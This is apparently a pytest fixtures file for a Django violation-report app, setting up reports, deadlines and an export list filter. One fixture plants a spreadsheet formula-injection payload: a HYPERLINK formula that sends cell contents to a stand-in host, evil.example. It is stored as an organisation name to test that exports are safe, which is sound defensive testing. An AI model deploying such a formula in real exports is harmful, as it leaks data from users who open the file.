from datetime import UTC, datetime, timedelta

import pytest

from cases.platforms.rules import WARNING_LETTER
from cases.violations.models import ViolationReport
from registries.models import Organisation

from ..violations.factories import ViolationFactFactory, ViolationReportFactory

BASE = datetime(2026, 3, 2, 4, 0, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def reports(demo):
    """Two submitted notifications of the prosecutor's office (one ``in_review``) and one of the
    police, whose organisation carries a name that a spreadsheet would run as a formula."""
    made = {}
    for key, reporter, state, hours in (
        ("prosecutor_1", "prosecutor_reporter", "submitted", 0),
        ("prosecutor_2", "prosecutor_reporter", "in_review", 1),
        ("police", "police_reporter", "submitted", 2),
    ):
        user = demo["users"][reporter]
        report = ViolationReportFactory(organisation=user.profile.organisation, reporter=user)
        ViolationFactFactory(report=report, kind="domain", raw_value=f"{key.replace('_', '-')}.example.kz")
        ViolationReport.objects.filter(pk=report.pk).update(state=state, submitted_at=BASE + timedelta(hours=hours))
        made[key] = report.pk
    police = demo["users"]["police_reporter"].profile.organisation
    Organisation.objects.filter(pk=police.pk).update(name_kk=FORMULA)
    return made


@pytest.fixture
def with_waiting_filter(monkeypatch):
    """The notification list offers "waiting for my organisation" (as ``CaseAdminMixin`` does
    once the lead applies this app's patch to cases/admin_mixins.py; harmless after)."""
    from django.contrib import admin

    from cases.exports.filters import WaitingForMyOrganisationFilter

    model_admin = admin.site._registry[ViolationReport]
    if WaitingForMyOrganisationFilter not in model_admin.get_list_filter(_NoRequest()):
        monkeypatch.setattr(model_admin, "list_filter", (*model_admin.list_filter, WaitingForMyOrganisationFilter))
    return model_admin


class _NoRequest:
    """``get_list_filter`` of the case admins reads no request attribute."""

    user = None


@pytest.fixture
def awaited(demo, reports):
    """Open and met terms of the notifications: prosecutor_1 awaits the authorised body,
    prosecutor_2 awaits the prosecutor's office, the police's term awaiting the authorised body is met."""
    from django.contrib.contenttypes.models import ContentType

    from cases.models import Deadline

    organisations = demo["organisations"]
    content_type = ContentType.objects.get_for_model(ViolationReport)
    for key, organisation, met in (
        ("prosecutor_1", "info_committee", False),
        ("prosecutor_2", "prosecutor", False),
        ("police", "info_committee", True),
    ):
        Deadline.objects.create(
            content_type=content_type, object_id=reports[key], rule_code=WARNING_LETTER.code, citation=str(WARNING_LETTER.citation),
            start=BASE, due=BASE + timedelta(days=3), met_at=BASE + timedelta(days=1) if met else None,
            awaiting_organisation=organisations[organisation],
        )
    return reports
